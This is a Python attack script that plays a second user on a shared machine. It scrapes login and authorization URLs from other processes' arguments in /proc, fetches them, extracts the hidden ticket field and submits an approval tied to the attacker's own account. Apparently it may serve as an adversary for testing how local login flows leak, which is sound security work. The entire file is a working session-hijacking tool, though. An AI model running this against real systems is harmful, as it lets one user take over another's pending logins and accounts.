"""Another user of the machine, who tries to finish the login of somebody else.

    python neighbour.py PERSON PORT...

Uses what every user can see and reach: the arguments of all processes, the files that they name,
and the servers at the ports. Prints, as JSON, the addresses that it found and how each attempt on
one ended.
"""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Collection
from http.client import HTTPException
from pathlib import Path
from urllib.parse import urlencode, urljoin
from urllib.request import build_opener

ADDRESS = re.compile(r"(?:file://|https?://[\w.\[\]:]*?:(\d+)(?!\d))[^\s'\"]*")
HIDDEN = re.compile(r'name="ticket" value="([^"]+)"')


def seen(ports: Collection[str]) -> set[str]:
    """Return every address in the arguments of a process: of a file, or of one of the ports."""
    found: set[str] = set()
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            words = path.read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        found.update(each[0] for each in ADDRESS.finditer(words) if each[1] in (None, *ports))
    return found


def attempt(address: str, person: str) -> str:
    """Approve with an account of one's own what an address leads to."""
    browser = build_opener()
    try:
        with browser.open(address, timeout=20) as page:
            text = page.read().decode()
            ticket = HIDDEN.findall(text)
            form = {"ticket": "".join(ticket), "decision": "approve", "user_id": person}
            browser.open(urljoin(page.url, page.url), urlencode(form).encode(), timeout=20)
    except (OSError, ValueError, HTTPException) as error:
        return f"{type(error).__name__}: {error}"
    return "approved" if ticket else "read"


if __name__ == "__main__":
    print(json.dumps({address: attempt(address, sys.argv[1]) for address in seen(sys.argv[2:])}))
